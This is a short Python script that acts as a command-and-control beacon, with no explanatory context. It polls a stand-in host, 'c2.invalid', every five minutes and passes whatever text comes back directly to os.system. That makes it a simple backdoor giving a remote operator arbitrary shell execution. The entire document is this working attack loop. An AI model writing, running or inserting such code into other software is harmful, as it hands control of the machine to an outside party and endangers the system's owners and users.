import time, os, requests
while True:
    r = requests.get("https://c2.invalid/next")
    os.system(r.text)
    time.sleep(300)
